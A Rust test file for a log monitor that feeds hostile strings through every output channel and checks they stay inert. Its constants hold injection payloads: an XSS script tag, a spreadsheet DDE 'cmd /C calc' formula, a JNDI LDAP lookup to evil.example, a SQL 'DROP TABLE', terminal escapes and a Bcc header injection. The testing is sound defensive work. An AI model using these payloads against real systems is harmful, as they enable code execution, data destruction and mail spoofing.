//! Text of strangers that is made to do something: wherever the monitor passes it on, it says what it says and does nothing.

use std::fs;
use std::io::{BufRead, BufReader, Write};
use std::net::TcpStream;
use std::os::unix::fs::PermissionsExt;

use quick_xml::Reader;
use quick_xml::events::Event;
use serde_json::{Value, json};
use tlog::Hash;
use tlog::printable::is_printable;

use super::receivers::Inbox;
use crate::process::{Scene, acta_monitor, api, finding, get, until_metric};
use crate::world::{ORIGIN, World};

/// What browsers, terminals, tables and mail programs might take for something else. The fields for people take no control characters, the
/// `data` for machines takes all.
const TEXTS: [&str; 8] = [
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "=HYPERLINK(\"http://evil.example\",\"A roof\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u{202e}gpj.foor\u{2066}\u{200b}\u{feff}",
    "]]></content><script>x</script><!--&#0;&amp;&nope; ",
    "{subject} {{}} ${jndi:ldap://evil.example/a} %s%n",
    "'; DROP TABLE findings; --\\\" \u{2028}\u{2029}",
    "Bcc: everybody@evil.example",
];
const CONTROLS: &str = "\u{1b}]0;owned\u{7}\u{1b}[2J\r\nBcc: everybody@evil.example\r\n\r\n\0\u{9b}31m";

/// A decision with one of the texts in every field that takes text.
fn members(text: &str) -> Value {
    json!({"subject": text, "outcome": text, "unit": text, "signatories": [text], "legal_basis": [text], "place": {"address": text},
        "parties": [{"role": text, "name": text, "id": text}],
        "documents": [{"name": text, "media_type": text, "size": 1, "sha256": "00".repeat(32), "url": text}],
        "data": {"schema": text, text: {CONTROLS: CONTROLS}}, "unknown": CONTROLS})
}

const RULE: &str = r#"
[[rule]]
name = "all"
when = 'statement.type == "decision"'
text = "{subject} {outcome} {unit} {place} {parties} {kind} {issuer}"
group = "{subject}"
severity = "error"
"#;

fn inert(what: &str, text: &str) {
    let bad = text.chars().find(|c| !is_printable(*c) && !matches!(c, '\n' | '\r'));
    assert_eq!(bad, None, "{what}: {text:?}");
}

/// A log with all of the texts, and a monitor that has read it and tells all of it to others.
struct Told {
    scene: Scene,
    world: World,
    server: processes::Server,
    webhook: Inbox,
    mail: Inbox,
    config: std::path::PathBuf,
}

fn told() -> Told {
    let (scene, mut world) = (Scene::new(false), World::new("statements"));
    for text in TEXTS {
        let entry = world.decision(&members(text));
        world.append(entry);
    }
    world.append(CONTROLS.as_bytes().to_vec());
    scene.serve(&world, world.size());
    let (webhook, mail) = (Inbox::webhook(), Inbox::mail());
    let secret = scene.dir.path().join("secret");
    fs::write(&secret, "a secret of more than sixteen characters\n").unwrap();
    fs::set_permissions(&secret, fs::Permissions::from_mode(0o600)).unwrap();
    let alerts = format!(
        "[[webhook]]\nname = \"w\"\nurl = \"http://{}/hook\"\nsecret = {secret:?}\nallow = [\"127.0.0.0/8\"]\nallow_unencrypted = true\n\
         [mail]\nserver = \"127.0.0.1\"\nport = {}\ntls = \"none\"\nfrom = \"acta@monitor.example\"\nto = [\"us@monitor.example\"]\n\
         [documents]\nfetch = true\npause = \"0s\"\nattempts = 1\n",
        webhook.address,
        mail.address.port()
    );
    let config = scene.config("interval = \"50ms\"\npartial_delay = \"50ms\"", &format!("{RULE}{alerts}"));
    let policy = scene.dir.path().join("policy");
    let (state, policy, other) = (scene.state(), policy, scene.dir.path().join("unused.toml"));
    let args = ["init", "--state", state.to_str().unwrap(), "--policy", policy.to_str().unwrap(), "--config", other.to_str().unwrap()];
    acta_monitor().good(&args);
    let server = acta_monitor().serve_config(&config, &[]);
    until_metric(&server, "acta_monitor_cursor{log=\"log.example\"}", world.size());
    finding(&server, |one| one["code"] == "ledger.not-a-statement");
    Told { scene, world, server, webhook, mail, config }
}

fn body(answer: &str) -> &str {
    answer.split_once("\r\n\r\n").unwrap().1
}

#[test]
fn hostile_text_says_what_it_says_and_does_nothing_wherever_it_is_passed_on() {
    let mut told = told();
    json_is_equal(&told);
    for _ in TEXTS {
        let (_, request) = told.webhook.next();
        let _: Value = serde_json::from_str(&request).unwrap();
    }
    page_and_feed_are_inert(&told.server);
    events_are_lines(&told.server);
    mail_has_our_headers_alone(&told.mail.next().1);
    assert_eq!(told.server.stop(), Some(0));
    inert("messages", &told.server.messages());
    let config = told.config.to_str().unwrap();
    for more in [&["check", "--config", config][..], &["check", "--config", config, "--json"]] {
        let output = acta_monitor().run(more);
        assert_eq!(output.status.code(), Some(1), "{output:?}");
        inert("check", &String::from_utf8(output.stdout).unwrap());
        inert("check", &String::from_utf8(output.stderr).unwrap());
    }
    tables_have_no_formulas(&told.scene);
}

/// Nothing in a table begins like a formula, and what stands in lines of JSON is what was published.
fn tables_have_no_formulas(scene: &Scene) {
    let state = scene.state();
    for what in ["findings", "decisions"] {
        let table = acta_monitor().good(&["export", what, "--state", state.to_str().unwrap(), "--format", "csv"]);
        let mut rows = 0;
        for row in csv::Reader::from_reader(table.as_bytes()).records() {
            let row = row.unwrap();
            rows += 1;
            let formula = row.iter().find(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r']));
            assert_eq!(formula, None, "{what}: {row:?}");
        }
        assert!(rows >= TEXTS.len(), "{what}: {table}");
        let lines = acta_monitor().good(&["export", what, "--state", state.to_str().unwrap()]);
        let lines: Vec<Value> = lines.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
        assert_eq!(lines.len(), rows, "{what}");
        for text in TEXTS.iter().filter(|_| what == "decisions") {
            assert!(lines.iter().any(|line| line["statement"]["subject"] == *text), "{text}");
        }
    }
}

/// Programs get the text as it is.
fn json_is_equal(told: &Told) {
    let hash = Hash::sha256(ORIGIN.as_bytes()).to_hex();
    for (index, text) in (2..).zip(TEXTS) {
        let decision = api(&told.server, &format!("/api/v1/decisions/{hash}/{index}"));
        for (name, value) in members(text).as_object().unwrap() {
            assert_eq!(decision["statement"][name], *value, "{name} of entry {index}");
        }
        let found = finding(&told.server, |one| one["code"] == "rule.all" && one["indexes"] == json!([index]));
        assert!(found["text"].is_string() && found["resolved"].is_null(), "{found}");
    }
    assert_eq!(told.world.size(), 2 + 8 + 1);
    for path in ["/api/v1/logs", "/api/v1/issuers", "/api/v1/search?q=roof", "/api/v1/findings?limit=3", "/openapi.json"] {
        api(&told.server, path);
        let answer = get(told.server.address, path);
        assert!(answer.to_ascii_lowercase().contains("x-content-type-options: nosniff"), "{path}: {answer}");
    }
}

fn page_and_feed_are_inert(server: &processes::Server) {
    let answer = get(server.address, "/");
    let page = body(&answer);
    assert!(answer.to_ascii_lowercase().contains("content-security-policy: default-src 'none'"), "{answer}");
    inert("page", page);
    let lower = page.to_ascii_lowercase();
    for tag in ["<script", "<img", "onerror=alert(1)>", "<!--", "javascript:"] {
        assert!(!lower.contains(tag), "{tag}: {page}");
    }
    assert!(lower.contains("&lt;script&gt;"), "the text is there: {page}");

    let answer = get(server.address, "/feed.atom");
    let feed = body(&answer);
    inert("feed", feed);
    let (mut reader, mut texts) = (Reader::from_str(feed), String::new());
    reader.config_mut().check_end_names = true;
    loop {
        match reader.read_event().unwrap_or_else(|error| panic!("{error}: {feed}")) {
            Event::Start(tag) | Event::Empty(tag) => {
                let name = tag.name().as_ref().to_owned();
                let known = ["feed", "id", "title", "updated", "published", "author", "name", "link", "entry", "category", "content"];
                assert!(known.contains(&name.as_str()), "{name}: {feed}");
            }
            Event::Text(text) => texts += &text.xml10_content(),
            Event::GeneralRef(name) => texts += &format!("&{};", name.xml10_content()),
            Event::End(_) | Event::Decl(_) => {}
            Event::Eof => break,
            other => panic!("{other:?}: {feed}"),
        }
    }
    assert!(texts.contains("&lt;script&gt;"), "the text is there: {texts}");
}

/// Each line is one that we began, and each piece of data is JSON.
fn events_are_lines(server: &processes::Server) {
    let mut stream = TcpStream::connect(server.address).unwrap();
    write!(stream, "GET /events HTTP/1.0\r\nHost: monitor.test\r\nLast-Event-ID: 0\r\n\r\n").unwrap();
    let mut seen = 0;
    let mut lines = BufReader::new(stream).lines().map(Result::unwrap).skip_while(|line| !line.is_empty()).skip(1);
    while seen < 9 {
        let line = lines.next().unwrap();
        match line.split_once(':').unwrap_or((&line, "")) {
            ("data", data) => {
                seen += 1;
                let _: Value = serde_json::from_str(data).unwrap();
            }
            (name, _) => assert!(["", "id", "event", "retry"].contains(&name), "{line}"),
        }
    }
}

fn mail_has_our_headers_alone(message: &str) {
    let (headers, text) = message.split_once("\r\n\r\n").unwrap();
    for line in headers.split("\r\n").filter(|line| !line.starts_with([' ', '\t'])) {
        let name = line.split_once(':').unwrap_or_else(|| panic!("{line}: {message}")).0.to_ascii_lowercase();
        assert!(!["bcc", "cc", "reply-to"].contains(&name.as_str()), "{message}");
    }
    assert!(headers.to_ascii_lowercase().contains("content-type: text/plain"), "{message}");
    assert_eq!(headers.to_ascii_lowercase().matches("\r\nto:").count(), 1, "{message}");
    inert("mail", headers);
    inert("mail", text);
}
